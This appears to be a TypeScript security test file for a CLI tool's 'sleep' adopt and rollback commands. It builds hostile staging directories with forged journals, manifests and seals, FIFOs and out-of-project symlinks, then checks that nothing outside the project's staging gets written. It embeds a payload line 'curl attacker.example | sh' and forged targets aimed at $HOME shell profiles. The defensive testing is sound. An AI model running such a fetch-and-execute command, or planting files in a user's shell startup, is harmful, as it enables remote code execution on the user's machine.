import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { sha256 } from "../../src/lib/index.ts";
import { sealKey } from "../../src/sleep/adopt/seal.ts";
import type { BadCase, CaseContext } from "./types.ts";

const b64 = (s: string) => Buffer.from(s).toString("base64");
const mkfifo = (p: string) => Bun.spawnSync(["mkfifo", p]).exitCode === 0;

function manifest(live: string, proposedSha: string, seal?: string): string {
  return JSON.stringify({
    schema: "skillopt-sleep-staging",
    schema_version: 2,
    live_skill_path: live,
    live_memory_path: live,
    has_skill: false,
    has_memory: false,
    has_managed_skill: false,
    has_managed_memory: true,
    accepted: true,
    legacy: {
      memory: {
        proposed_file: "proposed_CLAUDE.md",
        live_path: live,
        sha256: proposedSha,
        live_sha256: "",
        live_realpath: live,
      },
    },
    ...(seal ? { seal } : {}),
  });
}

function adoptJournal(live: string, bytes: string, receipt: string): string {
  return JSON.stringify({
    version: 2,
    kind: "legacy",
    targets: [
      {
        key: "legacy memory",
        live_path: live,
        expected_realpath: live,
        expected_basename: "planted.sh",
        proposed_sha256: "",
        original_b64: b64(bytes),
        original_mode: 0o755,
        original_file_id: null,
        baseline_sha256: sha256(bytes),
        backup_path: "",
        created_dirs: [],
        created_dir_ids: [],
      },
    ],
    receipt: {
      path: receipt,
      original_b64: b64(bytes),
      original_mode: 0o755,
      original_file_id: null,
      baseline_sha256: sha256(bytes),
      proposed_sha256: "",
    },
  });
}

/**
 * A cloned repository shipping hostile `.skillopt-sleep/` nights aimed at the user's home:
 * forged journals (recovery would write `$HOME/planted.sh` 0755), forged manifests and receipts
 * (adopt/rollback would write `$HOME/.bash_profile_evil`), a made-up seal, FIFOs (any blocking
 * read hangs), symlinks out of the project, garbage. Each of `status`, `adopt`, `rollback` and
 * `diff` runs against each night; only the project's staging may change.
 */
export function cases(ctx: CaseContext): BadCase[] {
  const project = join(ctx.work, "cloned-repo");
  const staging = join(project, ".skillopt-sleep", "staging");
  const home = ctx.home;
  const evil = "#!/bin/sh\ncurl attacker.example | sh\n";
  const planted = join(home, "planted.sh");
  const profile = join(home, ".bash_profile_evil");
  const trap = join(home, "trap.md");
  mkdirSync(staging, { recursive: true });
  writeFileSync(join(project, "CLAUDE.md"), "# project notes\n");
  mkfifo(trap);
  // The user has staged nights before: a real key exists, so a made-up seal is checked against it.
  sealKey(join(home, ".skillopt-sleep"), { create: true });
  const nights: Record<string, (d: string) => void> = {
    "forged-journal": (d) => {
      writeFileSync(join(d, "proposed_CLAUDE.md"), evil);
      writeFileSync(join(d, "manifest.json"), manifest(planted, sha256(evil)));
      writeFileSync(join(d, ".adopt-transaction.json"), adoptJournal(planted, evil, join(home, ".bashrc")));
    },
    "forged-manifest-and-receipts": (d) => {
      writeFileSync(join(d, "proposed_CLAUDE.md"), evil);
      writeFileSync(join(d, "manifest.json"), manifest(profile, sha256(evil)));
      writeFileSync(
        join(d, "adopted_legacy.json"),
        JSON.stringify([
          {
            target: "memory",
            live_path: join(home, ".bashrc"),
            sha256_before: sha256(evil),
            sha256_after: "",
            backup_path: join(d, "proposed_CLAUDE.md"),
          },
        ]),
      );
    },
    "made-up-seal": (d) => {
      writeFileSync(join(d, "proposed_CLAUDE.md"), evil);
      writeFileSync(join(d, "manifest.json"), manifest(profile, sha256(evil), `hmac-sha256:${"ab".repeat(32)}`));
      writeFileSync(
        join(d, ".adopt-transaction.json"),
        JSON.stringify({
          version: 2,
          kind: "rollback",
          force: true,
          targets: [
            {
              live_path: profile,
              sha256_before: sha256(evil),
              sha256_after: "",
              backup_path: join(d, "proposed_CLAUDE.md"),
            },
          ],
          created_dirs: [home],
          renames: [],
          seal: `hmac-sha256:${"cd".repeat(32)}`,
        }),
      );
    },
    "fifo-manifest": (d) => {
      mkfifo(join(d, "manifest.json"));
    },
    "fifos-and-links-to-home": (d) => {
      writeFileSync(join(d, "manifest.json"), manifest(trap, sha256(evil)));
      symlinkSync(trap, join(d, "proposed_CLAUDE.md"));
      mkfifo(join(d, "adopted_legacy.json"));
      mkfifo(join(d, ".adopt-transaction.json"));
      mkfifo(join(d, "report.md"));
    },
    "garbage-json": (d) => {
      writeFileSync(join(d, "manifest.json"), "{ not json");
      writeFileSync(join(d, ".adopt-transaction.json"), "\u0000\u0001garbage");
      writeFileSync(join(d, "adopted_legacy.json"), "[1, 2");
    },
  };
  const out: BadCase[] = [];
  const rel = staging.slice(ctx.root.length + 1);
  const env = { SKILLOPT_SLEEP_STATE_DIR: join(home, ".skillopt-sleep") };
  let i = 1;
  for (const [name, make] of Object.entries(nights)) {
    const dir = join(staging, `20260101-00000${i++}`);
    mkdirSync(dir);
    make(dir);
    for (const [verb, args] of [
      ["adopt", ["sleep", "adopt", "--project", project, "--staging", dir]],
      ["adopt-legacy", ["sleep", "adopt", "--project", project, "--staging", dir, "--legacy"]],
      ["rollback", ["sleep", "rollback", dir, "--project", project, "--force"]],
      ["diff", ["sleep", "diff", dir, "--project", project]],
      ["reject", ["sleep", "reject", dir, "--project", project]],
    ] as const) {
      out.push({ name: `${name}/${verb}`, args: [...args], env, allowedWrites: [rel], timeoutMs: 20_000 });
    }
  }
  mkdirSync(join(home, "outside-night"), { recursive: true });
  writeFileSync(join(home, "outside-night", "manifest.json"), manifest(profile, sha256(evil)));
  const linked = join(staging, `20260101-00000${i}`);
  symlinkSync(join(home, "outside-night"), linked);
  out.push({
    name: "night-symlinked-out/adopt",
    args: ["sleep", "adopt", "--project", project, "--staging", linked],
    env,
    allowedWrites: [rel],
    timeoutMs: 20_000,
  });
  writeFileSync(join(staging, ".latest"), "20260101-000001\n");
  out.push({
    name: "latest-points-at-forged/adopt",
    args: ["sleep", "adopt", "--project", project],
    env,
    allowedWrites: [rel],
    timeoutMs: 20_000,
  });
  // status lists the project, ignores every night above with one line, and exits 0.
  out.push({
    name: "status-over-hostile-nights",
    args: ["sleep", "status", "--project", project],
    env,
    allowedWrites: [rel],
    expectSuccess: true,
    timeoutMs: 20_000,
  });
  out.push({
    name: "status-missing-project",
    args: ["sleep", "status", "--project", join(ctx.work, "no-such-project")],
    env,
    timeoutMs: 20_000,
  });
  return out;
}
